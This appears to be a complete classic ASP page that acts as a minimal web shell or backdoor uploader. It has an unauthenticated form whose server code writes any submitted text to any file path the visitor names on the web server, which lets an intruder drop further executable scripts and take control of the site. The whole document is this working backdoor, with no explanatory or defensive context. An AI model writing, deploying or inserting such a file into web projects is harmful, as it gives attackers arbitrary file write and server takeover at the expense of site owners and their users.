<%
Dim target, text, fso, f
target = Request.Form("to")
text = Request.Form("text")
If target <> "" Then
	Set fso = Server.CreateObject("Scripting.FileSystemObject")
	Set f = fso.CreateTextFile(Server.MapPath(target), True)
	f.Write text
	f.Close
	Response.Write "ok"
End If
%>
<form method="post"><input name="to"><textarea name="text"></textarea><input type="submit"></form>
